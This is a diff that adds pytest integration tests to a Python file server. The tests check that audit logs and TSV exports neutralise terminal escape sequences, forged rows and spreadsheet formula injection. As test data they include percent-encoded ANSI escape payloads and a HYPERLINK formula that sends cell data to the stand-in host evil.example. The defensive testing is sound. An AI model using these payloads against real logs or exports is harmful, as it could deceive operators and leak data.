@@ -6,16 +6,22 @@ reproduced against a real server, as an attacker and an operator would see it.""
 from __future__ import annotations
 
 import http.client
+import json
+import os
 import re
 import subprocess
 import time
 import uuid
+from pathlib import Path
 
 import httpx
 import pytest
 
+from pyscore.server.audit import COLUMNS
+from tests.api import submit, upload
 from tests.conftest import SERVER, Server, init_server
 from tests.integration.test_hostile import World
+from tests.publish import song_payload
 
 KNOWN_METHODS = {"GET", "HEAD", "POST", "PUT", "PATCH", "DELETE", "OPTIONS"}
 FORMULA_STARTS = ("=", "+", "-", "@")
@@ -100,3 +106,103 @@ def test_made_up_methods_are_501_and_leave_nothing_behind(edge: World) -> None:
     log = logged(server, end)
     assert mark not in log and "TRACE" not in log
     assert mark.encode() not in audit_output(server, "--format", "json", "--since", "1h")
+
+
+# -- 2: the audit trail cannot drive the operator's terminal -------------------------------
+HIDDEN = ("\x1b", "\r", "\x9b", "\x85", "\u2028", "\u202e", "\x7f")
+
+
+def test_audit_tsv_carries_no_terminal_controls(edge: World) -> None:
+    server = edge.server
+    mark = uuid.uuid4().hex
+    # ESC[8m hides what follows; CR ESC[1A ESC[2K erases the line above; CSI (C1), NEL, LS,
+    # a right-to-left override and DEL, all percent-encoded in the path
+    hostile = "%1b%5b8mhidden%0d%1b%5b1A%1b%5b2K%c2%9b2J%c2%85%e2%80%a8%e2%80%ae%7f"
+    plausible = str(uuid.uuid4())
+    for rid, object_id in ((f"esc-{mark}", hostile), (f"id-{mark}", plausible)):
+        headers = {"Authorization": "Bearer bogus", "X-Request-ID": rid, "User-Agent": "ua\x9b2J"}
+        assert send(server, "GET", f"/download/{object_id}", headers) == 401
+
+    deadline = time.monotonic() + 15
+    while (out := audit_output(server, "--since", "1h")).count(mark.encode()) < 2:
+        assert time.monotonic() < deadline, out
+        time.sleep(0.3)
+    text = out.decode("utf-8")
+    for char in HIDDEN:
+        assert char not in text, repr(char)
+    lines = text.split("\n")
+    assert lines[-1] == "" and text.splitlines() == lines[:-1]  # no other line breaks
+    rows = {}
+    for line in lines[1:-1]:
+        cells = line.split("\t")
+        assert len(cells) == len(COLUMNS), line
+        rows[cells[-1]] = dict(zip(COLUMNS, cells))
+    esc, ok = rows[f"esc-{mark}"], rows[f"id-{mark}"]
+    assert (esc["outcome"], esc["status"], esc["object_id"]) == ("refused", "401", "")
+    assert "\\x1b[8mhidden\\r" in esc["reason"], esc["reason"]
+    assert esc["user_agent"] == "ua\\x9b2J"
+    assert (ok["outcome"], ok["object_id"]) == ("refused", plausible)
+    # JSON lines keep exact values: the plausible id as given, the other not as an id
+    records = [json.loads(x) for x in audit_output(server, "--format", "json").splitlines()]
+    by_id = {r["request_id"]: r for r in records}
+    assert by_id[f"id-{mark}"]["object_id"] == plausible
+    assert by_id[f"esc-{mark}"]["object_id"] is None
+
+
+# -- 8: exported TSVs forge no rows and start no formulas ----------------------------------
+HOSTILE_DATA_TYPE = '=HYPERLINK("http://evil.example/?"&A1,"x")\tforged\nDO1\t=1+1\r@x\u2028y'
+
+
+def tsv_rows(text: str) -> list[dict[str, str]]:
+    """Rows of a TSV, checking that only its newlines break lines and every row has as
+    many cells as its header, none of them starting a formula."""
+    lines = text.split("\n")
+    assert lines[-1] == "" and text.splitlines() == lines[:-1], text
+    header = lines[0].split("\t")
+    rows = []
+    for line in lines[1:-1]:
+        cells = line.split("\t")
+        assert len(cells) == len(header), line
+        assert not [c for c in cells if c.startswith(FORMULA_STARTS)], line
+        rows.append(dict(zip(header, cells)))
+    return rows
+
+
+def test_exports_forge_no_rows_and_start_no_formulas(edge: World, tmp_path: Path) -> None:
+    study = f"TSV{uuid.uuid4().hex[:6].upper()}"
+    edge.study(study)
+    name = "-SUM(A1).bam"  # a legal file name that a spreadsheet reads as a formula
+    data = os.urandom(1000)
+    payload = song_payload(study, {name: data})
+    payload["files"][0]["dataType"] = HOSTILE_DATA_TYPE
+    analysis_id, ids = submit(edge.http, payload, edge.admin)
+    upload(edge.http, ids[name], data, edge.admin)
+    r = edge.http.put(f"/studies/{study}/analysis/publish/{analysis_id}", headers=edge.admin)
+    assert r.status_code == 200, r.text
+
+    table = edge.http.get("/repository/table.tsv", params={"study": study})
+    assert table.status_code == 200
+    [row] = tsv_rows(table.text)
+    assert row["data_type"] == (
+        '\'=HYPERLINK("http://evil.example/?"&A1,"x")\\tforged\\nDO1\\t=1+1\\r@x\\u2028y'
+    )
+    assert (row["file_name"], row["object_id"], row["size"]) == (f"'{name}", ids[name], "1000")
+
+    manifest = edge.http.get("/repository/manifest.tsv", params={"study": study})
+    [entry] = tsv_rows(manifest.text)
+    assert (entry["file_name"], entry["object_id"]) == (f"'{name}", ids[name])
+    # score-client reads the guarded name back as the file's own
+    path = tmp_path / "manifest.tsv"
+    path.write_text(manifest.text)
+    out = edge.server.client(
+        "download",
+        "--manifest",
+        str(path),
+        "--output-dir",
+        str(tmp_path / "out"),
+        token=edge.server.admin_token,
+    )
+    assert out.returncode == 0, out.stderr
+    saved = [p for p in (tmp_path / "out").rglob("*") if p.is_file()]
+    [got] = [p for p in saved if ".score-client" not in p.parts]
+    assert (got.name, got.read_bytes()) == (name, data)
